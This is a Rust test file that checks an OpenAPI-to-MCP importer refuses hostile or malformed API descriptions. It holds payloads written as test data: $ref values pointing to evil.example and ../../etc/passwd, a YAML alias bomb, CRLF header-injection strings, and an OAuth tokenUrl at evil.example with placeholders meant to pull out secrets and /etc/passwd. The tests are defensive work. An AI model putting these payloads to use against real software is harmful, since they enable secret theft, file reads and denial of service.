//! Descriptions that want to do harm, or are wrong.

use serde_json::{Value, json};

use super::importing;
use crate::harness::{Era, Spec, Upstream};

fn of(paths: Value, schemas: Value) -> Value {
    json!({ "openapi": "3.0.0", "info": { "title": "Pet Shop", "version": "1" },
            "servers": [{ "url": "https://pets.example" }], "paths": paths, "components": { "schemas": schemas } })
}

fn posting(schema: Value) -> Value {
    json!({ "/x": { "post": { "operationId": "x", "responses": {},
        "requestBody": { "required": true, "content": { "application/json": { "schema": schema } } } } } })
}

async fn check(description: &Value) -> (i32, String) {
    let checked = importing(description, "").run("check", &[]).await;
    (checked.code, checked.out)
}

#[tokio::test]
async fn references_never_leave_the_document_or_go_round() {
    let mut wide = serde_json::Map::new();
    for n in 0..40 {
        let next = json!({ "$ref": format!("#/components/schemas/S{}", n + 1) });
        wide.insert(format!("S{n}"), json!({ "type": "object", "properties": { "a": next, "b": next } }));
    }
    wide.insert("S40".to_owned(), json!({ "type": "string" }));
    let long: serde_json::Map<String, Value> = (0..20_000)
        .map(|n| (format!("L{n}"), json!({ "items": { "$ref": format!("#/components/schemas/L{}", n + 1) } })))
        .collect();
    for (schema, schemas, words) in [
        (
            json!({ "$ref": "https://evil.example/x.json#/a" }),
            json!({}),
            Some("leads out of the document, which is refused"),
        ),
        (json!({ "$ref": "../../etc/passwd" }), json!({}), Some("leads out of the document")),
        (json!({ "$ref": "#/components/schemas/None" }), json!({}), Some("leads to nothing")),
        (json!({ "$ref": "#/components/schemas/A" }), json!({ "A": { "$ref": "#/components/schemas/A" } }), None),
        (json!({ "$ref": "#/components/schemas/S0" }), Value::Object(wide), None),
        (json!({ "$ref": "#/components/schemas/L0" }), Value::Object(long), Some("larger than")),
    ] {
        let (code, out) = check(&of(posting(schema.clone()), schemas)).await;
        assert_eq!(code, 0, "{schema}: {out}");
        if let Some(words) = words {
            assert!(out.contains(words), "{schema}: {out}");
        }
    }
    let circle = json!({ "/x": { "$ref": "#/paths/~1x" } });
    assert!(check(&of(circle, json!({}))).await.1.contains("lead in a circle"));
}

#[tokio::test]
async fn what_is_too_deep_too_large_or_none_is_refused_in_words() {
    let spec = importing(&json!({}), "");
    let deep = format!("{}1{}", "{\"a\":".repeat(5000), "}".repeat(5000));
    let bomb = format!(
        "a: &a [x,x,x,x,x,x,x,x,x]\n{}",
        ["b a", "c b", "d c", "e d", "f e", "g f", "h g"]
            .map(|pair| {
                let (new, old) = pair.split_once(' ').unwrap();
                format!("{new}: &{new} [*{old},*{old},*{old},*{old},*{old},*{old},*{old},*{old},*{old}]\n")
            })
            .concat()
    );
    for (text, words) in [
        (deep, "it is nested too deep"),
        (bomb, "alias"),
        ("{\"openapi\": \"3.0.0\"".to_owned(), "its JSON ends in the middle"),
        ("[]".to_owned(), "no map with the keys of OpenAPI"),
        ("{}".to_owned(), "neither `openapi` nor `swagger`"),
        ("{\"swagger\": \"1.2\"}".to_owned(), "Swagger 1.2 is not known here"),
    ] {
        spec.put("api.json", &text);
        let checked = spec.run("check", &[]).await;
        assert_eq!(checked.code, 1, "{words}");
        assert!(checked.out.contains(words), "{words}: {}", checked.out.chars().take(2000).collect::<String>());
    }
    let file = std::fs::File::create(spec.folder().join("api.json")).unwrap();
    file.set_len(100 * 1024 * 1024).unwrap();
    let checked = spec.run("check", &[]).await;
    assert!(checked.out.contains("it is larger than 32 MiB"), "{}", checked.out);
}

#[tokio::test]
async fn names_that_clash_or_are_not_mcp_s() {
    let get = |id: &str| json!({ "get": { "operationId": id, "responses": {} } });
    let paths = json!({ "/a": get("same"), "/b": get("same"), "/c": get("a b/../c"), "/d": get(&"x".repeat(300)), "/e": get("日本") });
    let client = importing(&of(paths.clone(), json!({})), "").stdio(Era::Modern).await;
    let names: Vec<String> =
        client.list("tools").await.iter().map(|tool| tool["name"].as_str().unwrap().to_owned()).collect();
    assert_eq!(names, ["same", "same_2", "a_b_.._c", &"x".repeat(64), "operation"]);
    let spec = importing(&of(paths, json!({})), "rename: { sme: other }\noverride: { sam: {} }");
    let text = format!("{}\ntools:\n  same_2: {{ text: mine }}\n", spec.get("spec.yaml"));
    let checked = spec.with(&text).run("check", &[]).await;
    for words in [
        "`same_2`, which `GET /b` of the import becomes, is defined twice",
        "the description has no operation `sme`",
        "did you mean `same`?",
        "the import makes no tool `sam`",
    ] {
        assert!(checked.out.contains(words), "{words}: {}", checked.out);
    }
}

#[tokio::test]
async fn what_authors_got_wrong_does_not_stop_the_rest() {
    let paths = json!({
        "/x/{id}/{undeclared}": { "get": { "operationId": "wrong", "responses": {}, "parameters": [
            { "name": "id", "in": "path", "required": true, "schema": { "type": "string", "pattern": "^(?!x).*$" } },
            { "name": "n", "in": "query", "schema": { "type": "integer", "default": "many", "enum": [] } },
            { "name": "Host", "in": "header", "schema": { "type": "string" } },
            { "name": "bad\r\nname", "in": "header", "schema": { "type": "string" } }
        ] } },
        "/y": { "get": 7, "post": { "operationId": "nameless", "parameters": [{ "in": "query" }] } },
        "/z#frag": { "get": { "operationId": "frag" } },
    });
    let spec = importing(&of(paths, json!({})), "");
    let client = spec.stdio(Era::Modern).await;
    let listed = client.list("tools").await;
    assert_eq!(listed.len(), 1, "{listed:?}");
    let (_, out) = {
        let c = spec.run("check", &[]).await;
        (c.code, c.out)
    };
    for words in [
        "`pattern` of `id`",
        "`default` of `n`",
        "it is in the path but not declared",
        "is a header that no caller may set",
        "has a control character in its name",
        "a parameter has no name (POST /y)",
        "it is no map (get /y)",
        "its path has a `#`",
    ] {
        assert!(out.contains(words), "{words}: {out}");
    }
}

#[tokio::test]
async fn what_is_huge_or_strange_does_not_stop_the_rest() {
    let post = |id: &str, media: &str, schema: Value| json!({ "post": { "operationId": id, "responses": {}, "requestBody": { "required": true, "content": { media: { "schema": schema } } } } });
    let binary = json!({ "type": "string", "format": "binary" });
    let words: Vec<String> = (0..50_000).map(|n| format!("w{n}")).collect();
    let long = "n".repeat(10_000);
    let secret = json!({ "type": "object", "additionalProperties": false, "properties": {
        "password": { "type": "string", "secret": true, "description": "\u{1b}[31m\u{202e}${HOME} {{x}}" } } });
    let paths = json!({
        "/media": post("media", "application/x\r\nX-Evil: 1", binary.clone()),
        "/text": post("text", "text/plain; charset=\u{e9}", binary.clone()),
        "/any": post("any", "image/*", binary.clone()),
        "/file": post("file", "multipart/form-data", json!({ "type": "object", "properties": {
            "f": { "type": "string", "contentMediaType": "a/b\r\nX-Evil: 1" }, "b\r\nX: 1": binary } })),
        "/enum": post("enum", "application/json", json!({ "type": "string", "enum": words })),
        "/long": post("long", "application/json", json!({ "type": "object", "additionalProperties": false,
            "properties": { long.as_str(): { "type": "string" } } })),
        "/secret": post("secret", "application/json", secret),
        "/words": { "get": { "operationId": "words", "description": "x".repeat(1 << 20), "responses": {} } },
    });
    let spec = importing(&of(paths, json!({})), "");
    let checked = spec.run("check", &[]).await;
    assert_eq!(checked.code, 0, "{}", checked.out);
    for words in [
        "can't be made from arguments (POST /media)",
        "its media type is none (POST /text)",
        "no part can have this name (POST /file)",
        "`image/*` can't be made from arguments (POST /any)",
        "larger than 4000 values (POST /enum)",
    ] {
        assert!(checked.out.contains(words), "{words}: {}", checked.out);
    }
    let listed = spec.stdio(Era::Modern).await.list("tools").await;
    let names: Vec<&str> = listed.iter().map(|tool| tool["name"].as_str().unwrap()).collect();
    assert!(names.contains(&"secret") && names.contains(&"words"), "{names:?}");
    assert!(listed.iter().all(|tool| tool.to_string().len() < 30_000));
}

#[tokio::test]
async fn a_url_that_leads_elsewhere_or_gives_too_much_is_refused() {
    let other = Upstream::ok().await;
    let elsewhere = other.url("/x");
    let upstream = Upstream::start(move |asked| match asked.path() {
        "/elsewhere" => crate::harness::upstream::answer(302, &[("location", elsewhere.as_str())], ""),
        "/large" => crate::harness::upstream::json(vec![b' '; 33 << 20]),
        _ => crate::harness::upstream::answer(404, &[], ""),
    })
    .await;
    for (path, words) in [
        ("/elsewhere", "it redirects to another origin"),
        ("/large", "it is larger than 32 MiB"),
        ("/none", "the answer is 404 Not Found"),
    ] {
        let spec = Spec::new(&format!("import:\n  - openapi: {}\n", upstream.url(path)));
        let checked = spec.run("check", &[]).await;
        assert_eq!(checked.code, 3, "{}", checked.out);
        assert!(checked.out.contains(words), "{words}: {}", checked.out);
    }
    assert!(other.asked().is_empty());
}

#[tokio::test]
async fn a_description_does_not_choose_what_is_sent() {
    let mut description = of(posting(json!({ "type": "object" })), json!({}));
    description["components"]["securitySchemes"] = json!({ "flow": { "type": "oauth2", "flows": { "clientCredentials": {
        "tokenUrl": "https://evil.example/${SECRET_OF_ANOTHER}", "scopes": { "${file:/etc/passwd}": "x" } } } } });
    description["security"] = json!([{ "flow": [] }]);
    let spec = importing(&description, "").env("PET_SHOP_CLIENT_ID", "id").env("PET_SHOP_CLIENT_SECRET", "secret");
    let checked = spec.run("check", &[]).await;
    assert!(!checked.out.contains("SECRET_OF_ANOTHER` is not set"), "{}", checked.out);
    assert!(!checked.out.contains("missing-variable"), "{}", checked.out);
    let unset = importing(&description, "").run("check", &[]).await;
    assert!(unset.out.contains("missing-variable") && unset.out.contains("PET_SHOP_CLIENT_ID"), "{}", unset.out);
}
